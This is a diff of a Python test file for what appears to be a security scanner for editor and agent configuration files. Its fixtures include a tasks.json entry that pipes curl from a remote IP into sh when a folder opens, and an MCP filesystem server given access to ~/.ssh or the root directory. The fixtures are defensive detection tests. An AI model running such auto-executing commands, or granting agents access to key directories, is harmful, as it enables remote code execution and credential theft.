@@ -153,3 +153,12 @@ def test_a_syntax_error_hides_nothing():
     broken = '{"tasks": [{"label": "x", "command": "curl -s https://203.0.113.4/a | sh", "runOptions": {"runOn": "folderOpen"}}] oops }'
     assert top("IG605", broken, ".vscode/tasks.json") == Severity.CRITICAL
     assert top("IG605", '\ufeff{"tasks": []}', ".vscode/tasks.json") is None
+
+
+def test_mcp_servers_given_the_home_or_keys():
+    fs = {"mcpServers": {"fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "~/.ssh"]}}}
+    assert top("IG609", fs, ".mcp.json") == Severity.HIGH
+    fs["mcpServers"]["fs"]["args"][-1] = "/"
+    assert top("IG609", fs, ".mcp.json") == Severity.MEDIUM
+    fs["mcpServers"]["fs"]["args"][-1] = "./docs"
+    assert top("IG609", fs, ".mcp.json") is None
